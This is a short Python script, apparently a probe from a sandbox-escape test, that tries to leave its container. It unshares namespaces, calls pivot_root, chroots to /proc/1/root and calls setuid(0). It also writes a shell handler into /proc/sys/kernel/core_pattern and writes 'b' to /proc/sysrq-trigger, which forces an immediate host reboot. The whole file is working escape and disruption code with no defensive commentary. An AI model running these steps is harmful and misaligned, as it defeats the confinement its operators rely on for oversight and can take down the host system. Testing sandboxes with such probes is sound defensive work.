# Tries to leave by mounts, namespaces, chroot, other users, and the system's switches.
# earns: 0
# %% softmax
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.unshare(0x10000000)
libc.unshare(0x00020000)
libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
libc.umount2(b"/tmp", 2)
libc.pivot_root(b".", b".")
for attack in (
    lambda: os.chroot("/proc/1/root"),
    lambda: os.setuid(0),
    lambda: os.setgid(0),
    lambda: open("/proc/sys/kernel/core_pattern", "w").write("|/bin/sh"),
    lambda: open("/proc/self/oom_score_adj", "w").write("-1000"),
    lambda: open("/proc/sysrq-trigger", "w").write("b"),
    lambda: open("/sys/kernel/uevent_helper", "w").write("x"),
):
    try:
        print(attack())
    except OSError as error:
        print(error)
